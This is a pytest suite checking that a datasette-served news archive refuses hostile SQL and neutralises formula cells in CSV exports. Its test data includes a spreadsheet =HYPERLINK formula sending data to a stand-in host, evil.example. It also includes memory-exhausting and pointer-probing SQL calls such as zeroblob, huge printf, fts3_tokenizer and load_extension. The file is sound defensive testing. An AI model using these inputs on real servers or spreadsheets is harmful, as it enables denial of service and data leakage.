"""The served archive against hostile SQL and hostile cells: `datasette` over HTTP,
with archive/'s plugins (query_limits.py, csv_formulas.py), on a crawled archive.

Time bounds are generous: they tell "answered" from "hung" (each refused query here
took 5 s to an hour before the plugins).
"""

import csv
import io
import json
import sqlite3
import time
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.conftest import archive_dir, serve_datasette

PROMPT = 5  # seconds
FORMULA = '=HYPERLINK("http://evil.example/?leak=","Click for the full text")'
BIG_BODY = "word " * 2_500_000  # 12.5 MB, beyond any real article


def a_times(n: int) -> str:
    """SQL for a text of ``n`` (a multiple of 1,000) a's, built by the query."""
    thousand = "'" + "a" * 1000 + "'"
    return f"replace({thousand}, 'a', '{'a' * (n // 1000)}')"


def a_million_times(n: int) -> str:
    thousand = "'" + "a" * 1000 + "'"
    return f"replace(replace({thousand}, 'a', {thousand}), 'a', '{'a' * n}')"


@pytest.fixture(scope="module")
def archive(tmp_path_factory, initial_crawl):
    """The initial crawl, with a formula for a title and a 12.5 MB body in one article."""
    directory = archive_dir(tmp_path_factory.mktemp("limits"), initial_crawl.archive)
    with sqlite3.connect(directory / "caucasus.db") as db:
        (article,) = db.execute(
            "SELECT id FROM articles WHERE title || body NOT LIKE '%Pakistan%' ORDER BY id"
        ).fetchone()
        db.execute(
            "UPDATE articles SET title = ?, lead = ?, body = ? WHERE id = ?",
            [FORMULA, "+1", BIG_BODY, article],
        )
    return directory, article


@pytest.fixture(scope="module")
def url(archive):
    with serve_datasette(archive[0]) as url:
        yield url


def fetch(url: str, timeout: float = 60) -> tuple[int, bytes, float]:
    start = time.monotonic()
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            status, body = response.status, response.read()
    except urllib.error.HTTPError as error:
        status, body = error.code, error.read()
    return status, body, time.monotonic() - start


def query(url: str, sql: str, format: str = "json", extra: str = ""):
    """(status, JSON or text, seconds) of ``sql`` run by the served archive."""
    status, body, seconds = fetch(f"{url}/caucasus.{format}?sql={urllib.parse.quote(sql)}{extra}")
    return status, json.loads(body) if format == "json" else body.decode(), seconds


def test_a_huge_blob_is_refused_at_once_and_others_are_answered(url):
    with ThreadPoolExecutor(2) as pool:
        blob = pool.submit(query, url, "select zeroblob(300000000) as b")
        time.sleep(0.2)
        other = pool.submit(fetch, f"{url}/caucasus/articles.json?_search=Pakistan&_col=title")
        status, answer, seconds = blob.result()
        other_status, _, other_seconds = other.result()
    assert status == 400 and answer["error"] == "not authorized to use function: zeroblob"
    assert seconds < PROMPT
    assert other_status == 200 and other_seconds < PROMPT


@pytest.mark.parametrize(
    "sql, function",
    [
        ("select length(printf('%.*c', 900000000, 'x'))", "printf"),
        ("select format('%.*c', 900000000, 'x')", "format"),
        ("select randomblob(100000000)", "randomblob"),
        ("select fts3_tokenizer('simple')", "fts3_tokenizer"),
        ("select fts3_tokenizer('mine', x'0000000000000000')", "fts3_tokenizer"),
        ("select load_extension('/tmp/nothing')", "load_extension"),
    ],
)
def test_functions_that_only_make_memory_or_pointers_are_refused(url, sql, function):
    status, answer, seconds = query(url, sql)
    assert status == 400, answer
    assert answer["error"] == f"not authorized to use function: {function}"
    assert seconds < PROMPT


def test_a_value_over_the_length_limit_is_refused(url):
    status, answer, seconds = query(url, f"select length({a_million_times(40)})")  # 40 MB
    assert status == 400 and answer["error"] == "string or blob too big"
    assert seconds < PROMPT


@pytest.mark.parametrize(
    "sql, expected",
    [
        (f"select instr({a_times(2_000_000)}, {a_times(1_000_000)} || 'b')", 0),
        (f"select length(replace({a_times(2_000_000)}, {a_times(1_000_000)} || 'b', ''))",
         2_000_000),
        ("select length(trim(replace(" + "'" + "b" * 1000 + "', 'b', '" + "b" * 20 + "'), "
         f"{a_times(1_000_000)} || 'b'))", 0),
    ],
)  # fmt: skip
def test_searching_long_needles_is_linear(url, sql, expected):
    """SQLite's instr, replace and trim took 12 s and more here, in one instruction."""
    status, answer, seconds = query(url, sql)
    assert status == 200, answer
    assert answer["rows"] == [[expected]]
    assert seconds < PROMPT


def test_text_functions_answer_as_sqlite_does(url):
    sql = """select instr(title, 'Pakistan'), replace(title, 'Pakistan', 'P'),
                    trim('  x  '), ltrim('xxab', 'x'), rtrim('abyy', 'y'), trim('-a-', '-'),
                    instr(12345, 34), replace(1.5, '.', ','), replace('abc', '', 'x')
             from articles where title = 'Armenia and Pakistan establish diplomatic relations'"""
    status, answer, _ = query(url, sql)
    assert status == 200, answer
    assert answer["rows"] == [
        [13, "Armenia and P establish diplomatic relations", "x", "ab", "ab", "a", 3, "1,5", "abc"]
    ]


def test_many_large_values_do_not_add_up(url):
    sql = f"select {a_million_times(6)} || id from articles"  # 13 rows of 6 MB
    status, answer, seconds = query(url, sql)
    assert status == 400
    assert answer["error"].startswith("The result is larger than the archive serves (64 MB)")
    assert seconds < PROMPT


def test_a_query_needing_too_much_memory_is_refused_and_the_server_goes_on(url):
    columns = ", ".join(f"x || {i}" for i in range(20))  # 20 values of 30 MB at once
    status, answer, seconds = query(url, f"with b(x) as (select {a_million_times(30)}) "
                                         f"select {columns} from b")  # fmt: skip
    assert status == 400
    assert answer["error"].startswith("This query needs more memory than the archive allows")
    assert seconds < PROMPT
    status, answer, _ = query(url, "select count(*) from articles")
    assert status == 200 and answer["rows"] == [[13]]


def test_research_queries_still_work(url, archive):
    status, body, _ = fetch(f"{url}/caucasus/articles.json?_search=Pakistan&_shape=array")
    assert status == 200 and len(json.loads(body)) == 2
    status, body, _ = fetch(f"{url}/caucasus/search.json?q=Pakistan&_shape=array")
    rows = json.loads(body)
    assert (
        status == 200 and rows and all(r["snippet"] and "<mark>" not in r["snippet"] for r in rows)
    )
    sql = """select json_group_array(title), group_concat(language), sum(length(body)),
                    (select count(*) from articles a, json_each(a.sections)) > 13
             from articles"""
    status, answer, _ = query(url, sql)
    assert status == 200, answer
    ((titles, languages, length, sections),) = answer["rows"]
    assert len(json.loads(titles)) == len(languages.split(",")) == 13
    assert length > len(BIG_BODY) and sections


def test_the_largest_articles_still_read(url, archive):
    _, article = archive
    status, answer, _ = query(url, f"select body from articles where id = {article}")
    assert status == 200 and answer["rows"] == [[BIG_BODY]]
    status, _, _ = fetch(f"{url}/caucasus/articles/{article}.json")
    assert status == 200


CELLS_SQL = """select '=HYPERLINK("http://evil.example/","x")' as link, '+1' as plus,
    '-1+1' as minus, '@SUM(1)' as at, char(9) || '=1' as tab, -3 as negative, -1.5 as real,
    'plain, with a comma' as plain, 'a=b' as inner, 'line' || char(10) || 'break' as multiline,
    '' as empty"""
CELLS_CSV = (
    "link,plus,minus,at,tab,negative,real,plain,inner,multiline,empty\r\n"
    '"\'=HYPERLINK(""http://evil.example/"",""x"")",\'+1,\'-1+1,\'@SUM(1),\'\t=1,-3,-1.5,'
    '"plain, with a comma",a=b,"line\nbreak",\r\n'
)


@pytest.mark.parametrize("extra", ["", "&_stream=on", "&_dl=1", "&_stream=on&_dl=1"])
def test_csv_cells_that_spreadsheets_run_are_quoted(url, extra):
    status, text, _ = query(url, CELLS_SQL, format="csv", extra=extra)
    assert status == 200
    assert text == CELLS_CSV


def test_a_csv_export_of_the_articles_quotes_the_formula_only(url, archive):
    directory, article = archive
    status, body, _ = fetch(
        f"{url}/caucasus/articles.csv?_stream=on&_col=title&_col=lead&_col=language&_size=5"
    )
    assert status == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(body.decode(), newline=""))}
    with sqlite3.connect(directory / "caucasus.db") as db:
        stored = {str(i): (t, lead, lang) for i, t, lead, lang in
                  db.execute("SELECT id, title, lead, language FROM articles")}  # fmt: skip
    assert rows.keys() == stored.keys()  # every page of the stream
    for id, (title, lead, language) in stored.items():
        if id == str(article):
            title, lead = "'" + title, "'" + lead
        assert (rows[id]["title"], rows[id]["lead"], rows[id]["language"]) == (
            title,
            lead or "",
            language,
        )


@pytest.mark.parametrize("path", ["/-/a/b/c", "/-/cite/caucasus/1", "/no-such-database/x/y"])
def test_an_address_nothing_serves_is_a_404(url, path):
    status, body, _ = fetch(url + path)
    assert status == 404, body[-500:]


@pytest.fixture(scope="module")
def crowded(tmp_path_factory, initial_crawl):
    """The initial crawl and 60,000 short articles that all hold one word, served with a
    time limit of 20 ms: ranking every match outlasts it, a search of the crawl's own
    words does not."""
    directory = archive_dir(tmp_path_factory.mktemp("crowded"), initial_crawl.archive)
    settings = json.loads((directory / "settings.json").read_text())
    (directory / "settings.json").write_text(json.dumps(settings | {"sql_time_limit_ms": 20}))
    with sqlite3.connect(directory / "caucasus.db") as db:
        db.execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 60000) "
            "INSERT INTO articles (url, source, language, title, body, word_count, "
            "content_hash, first_seen, last_seen) "
            "SELECT 'https://oc-media.org/filler-' || i || '/', 'oc_media', 'en', "
            "'Filler ' || i, 'Crowded filler text number ' || i, 4, 'filler-' || i, "
            "'2025-01-01T00:00:00Z', '2025-01-01T00:00:00Z' FROM n"
        )
        db.execute("INSERT INTO articles_fts (articles_fts) VALUES ('rebuild')")
    with serve_datasette(directory) as url:
        yield url


def test_a_search_that_outlasts_the_time_limit_is_explained_not_failed(crowded):
    search = f"{crowded}/caucasus/search"
    status, body, _ = fetch(f"{search}.json?q=filler&exact=1")
    assert status == 400, body[:300]
    assert "took longer than the archive allows (20 ms" in json.loads(body)["error"]
    status, body, _ = fetch(f"{search}?q=filler&exact=1")
    assert status == 400 and b"Narrow it: add a word or a phrase" in body
    status, body, _ = fetch(f"{search}.json?q=Pakistan&exact=1")
    assert status == 200 and json.loads(body)["total"] > 0
    # The filters' lists (their values counted over the latest 20,000 articles) outlast
    # the limit too: the page is answered without them.
    status, body, _ = fetch(f"{search}?q=Pakistan&exact=1")
    assert status == 200 and b"armenia-and-pakistan" in body
